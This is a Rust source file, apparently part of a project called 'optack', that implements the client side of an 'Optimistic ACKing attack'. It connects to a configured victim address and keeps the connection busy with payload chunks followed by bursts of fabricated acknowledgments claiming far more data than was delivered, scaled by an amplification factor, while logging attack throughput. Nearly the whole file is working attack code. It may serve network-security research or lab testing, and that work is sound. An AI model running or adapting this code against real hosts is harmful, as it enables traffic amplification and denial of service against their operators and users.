use bytes::{Bytes, BytesMut};
use optack_abstract::AttackConfig;
use serde::Serialize;
use std::future::poll_fn;
use std::io;
use std::pin::Pin;
use std::task::Poll;
use std::time::Duration;
use thiserror::Error;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, ReadBuf};
use tokio::net::TcpStream;
use tokio::sync::watch;
use tokio::time::{Instant, sleep, timeout};
use tracing::{debug, error, info};

use crate::ack::{encode_fabricated_ack, predicted_seq};

/// Application-level handshake sent right after connecting.
pub const HANDSHAKE: &[u8] = b"START\n";

const PAYLOAD_BYTE: u8 = b'X';

#[derive(Debug, Error)]
pub enum AttackError {
    #[error("connection to {addr} failed: {source}")]
    ConnectionFailure {
        addr: String,
        #[source]
        source: io::Error,
    },
    #[error("send failed: {0}")]
    SendFailure(#[source] io::Error),
    #[error("initial receive failed: {0}")]
    ReceiveFailure(#[source] io::Error),
}

/// Why the attack loop stopped.
#[derive(Debug)]
pub enum AttackExit {
    Cancelled,
    /// The victim closed the connection (empty read).
    PeerClosed,
    Failed(AttackError),
}

/// Final send counters of one attack session.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct AttackTotals {
    /// Genuine payload bytes.
    pub bytes_sent: u64,
    /// Payload chunks plus fabricated acknowledgments.
    pub packets_sent: u64,
    pub fabricated_acks: u64,
    pub elapsed: Duration,
}

impl AttackTotals {
    pub fn send_rate_mbps(&self) -> f64 {
        let secs = self.elapsed.as_secs_f64();
        if secs > 0.0 {
            self.bytes_sent as f64 * 8.0 / secs / 1_000_000.0
        } else {
            0.0
        }
    }

    pub fn megabytes_sent(&self) -> f64 {
        self.bytes_sent as f64 / 1024.0 / 1024.0
    }
}

/// Result of a finished session. The socket is already closed.
#[derive(Debug)]
pub struct AttackOutcome {
    totals: AttackTotals,
    exit: AttackExit,
}

impl AttackOutcome {
    pub fn totals(&self) -> AttackTotals {
        self.totals
    }

    pub fn exit(&self) -> &AttackExit {
        &self.exit
    }

    pub fn is_aborted(&self) -> bool {
        matches!(self.exit, AttackExit::Failed(_))
    }
}

/// Connects to the victim and runs one attack session.
///
/// The session keeps the connection busy with MTU-sized payload chunks, each
/// followed by a burst of acknowledgment blocks that claim far more data than
/// was ever delivered.
pub struct AttackClient {
    config: AttackConfig,
}

impl AttackClient {
    pub fn new(config: AttackConfig) -> Self {
        Self { config }
    }

    pub async fn connect(&self) -> Result<AttackSession<TcpStream>, AttackError> {
        let addr = self.config.victim();
        let stream = TcpStream::connect(&addr)
            .await
            .map_err(|source| AttackError::ConnectionFailure {
                addr: addr.clone(),
                source,
            })?;
        stream.set_nodelay(true).ok();
        info!("Connected to {}", addr);
        Ok(AttackSession::new(stream, self.config.clone()))
    }

    /// Connect and attack until cancelled or the connection ends. A failed
    /// connect is reported as an outcome with zero totals.
    pub async fn run(&self, cancel: &mut watch::Receiver<bool>) -> AttackOutcome {
        match self.connect().await {
            Ok(session) => session.run(cancel).await,
            Err(e) => {
                error!("{}", e);
                AttackOutcome {
                    totals: AttackTotals::default(),
                    exit: AttackExit::Failed(e),
                }
            }
        }
    }
}

enum Inbound {
    Data(usize),
    Idle,
    Closed,
}

/// Live state of one attack connection.
pub struct AttackSession<S> {
    stream: S,
    config: AttackConfig,
    chunk: Bytes,
    ack_buf: BytesMut,
    recv_buf: Vec<u8>,
    bytes_sent: u64,
    packets_sent: u64,
    fabricated_acks: u64,
    start: Instant,
}

impl<S: AsyncRead + AsyncWrite + Unpin> AttackSession<S> {
    pub fn new(stream: S, config: AttackConfig) -> Self {
        Self {
            stream,
            chunk: Bytes::from(vec![PAYLOAD_BYTE; config.chunk_size]),
            ack_buf: BytesMut::with_capacity(crate::ack::ACK_BLOCK_LEN),
            recv_buf: vec![0; config.recv_buffer.max(1)],
            config,
            bytes_sent: 0,
            packets_sent: 0,
            fabricated_acks: 0,
            start: Instant::now(),
        }
    }

    /// Run the session to completion. The stream is shut down and dropped on
    /// every exit path and the final totals are always logged.
    pub async fn run(mut self, cancel: &mut watch::Receiver<bool>) -> AttackOutcome {
        let exit = match self.drive(cancel).await {
            Ok(exit) => exit,
            Err(e) => {
                error!("Attack aborted: {}", e);
                AttackExit::Failed(e)
            }
        };

        if let Err(e) = self.stream.shutdown().await {
            debug!("shutdown after attack: {}", e);
        }
        info!("Connection closed");

        let totals = self.totals();
        info!(
            "Total sent: {:.2}MB, Packets: {}, Fabricated ACKs: {}",
            totals.megabytes_sent(),
            totals.packets_sent,
            totals.fabricated_acks
        );
        AttackOutcome { totals, exit }
    }

    fn totals(&self) -> AttackTotals {
        AttackTotals {
            bytes_sent: self.bytes_sent,
            packets_sent: self.packets_sent,
            fabricated_acks: self.fabricated_acks,
            elapsed: self.start.elapsed(),
        }
    }

    async fn drive(
        &mut self,
        cancel: &mut watch::Receiver<bool>,
    ) -> Result<AttackExit, AttackError> {
        self.stream
            .write_all(HANDSHAKE)
            .await
            .map_err(AttackError::SendFailure)?;
        self.initial_receive().await?;

        info!("Starting Optimistic ACKing attack");
        self.start = Instant::now();
        let progress_interval = self.config.progress_interval();
        let mut last_progress = self.start;

        loop {
            if *cancel.borrow_and_update() {
                info!("Attack stopped (cancelled)");
                return Ok(AttackExit::Cancelled);
            }

            self.send_chunk().await?;
            self.send_ack_burst().await?;

            if last_progress.elapsed() >= progress_interval {
                self.log_progress();
                last_progress = Instant::now();
            }

            match self.poll_inbound().await {
                Inbound::Closed => {
                    info!("Connection ended by victim");
                    return Ok(AttackExit::PeerClosed);
                }
                Inbound::Data(n) => debug!("drained {} inbound bytes", n),
                Inbound::Idle => {}
            }

            tokio::task::yield_now().await;
        }
    }

    async fn initial_receive(&mut self) -> Result<(), AttackError> {
        let wait = self.config.initial_recv_timeout();
        match timeout(wait, self.stream.read(&mut self.recv_buf)).await {
            Ok(Ok(0)) => debug!("No initial data, victim closed its sending side"),
            Ok(Ok(n)) => info!("Initial data received: {} bytes", n),
            Ok(Err(e)) => return Err(AttackError::ReceiveFailure(e)),
            Err(_) => info!("Initial data reception timeout - continuing"),
        }
        Ok(())
    }

    async fn send_chunk(&mut self) -> Result<(), AttackError> {
        self.stream
            .write_all(&self.chunk)
            .await
            .map_err(AttackError::SendFailure)?;
        self.bytes_sent += self.chunk.len() as u64;
        self.packets_sent += 1;
        Ok(())
    }

    async fn send_ack_burst(&mut self) -> Result<(), AttackError> {
        let ack_interval = self.config.ack_interval();
        for _ in 0..self.config.ack_burst {
            let seq = predicted_seq(
                self.packets_sent,
                self.config.chunk_size,
                self.config.amplification_factor,
            );
            self.ack_buf.clear();
            encode_fabricated_ack(&mut self.ack_buf, seq);
            self.stream
                .write_all(&self.ack_buf)
                .await
                .map_err(AttackError::SendFailure)?;
            self.packets_sent += 1;
            self.fabricated_acks += 1;
            if !ack_interval.is_zero() {
                sleep(ack_interval).await;
            }
        }
        Ok(())
    }

    /// One non-blocking read. Only an empty read means the victim is gone;
    /// read errors are left for the next send to surface.
    async fn poll_inbound(&mut self) -> Inbound {
        let stream = &mut self.stream;
        let recv_buf = &mut self.recv_buf;
        poll_fn(|cx| {
            let mut buf = ReadBuf::new(&mut recv_buf[..]);
            match Pin::new(&mut *stream).poll_read(cx, &mut buf) {
                Poll::Ready(Ok(())) if buf.filled().is_empty() => Poll::Ready(Inbound::Closed),
                Poll::Ready(Ok(())) => Poll::Ready(Inbound::Data(buf.filled().len())),
                Poll::Ready(Err(e)) => {
                    debug!("inbound read error: {}", e);
                    Poll::Ready(Inbound::Idle)
                }
                Poll::Pending => Poll::Ready(Inbound::Idle),
            }
        })
        .await
    }

    fn log_progress(&self) {
        let totals = self.totals();
        info!(
            "[{:.1}s] Attack traffic: {:.2} Mbps, Sent: {:.2}MB, Packets: {}",
            totals.elapsed.as_secs_f64(),
            totals.send_rate_mbps(),
            totals.megabytes_sent(),
            totals.packets_sent
        );
    }
}
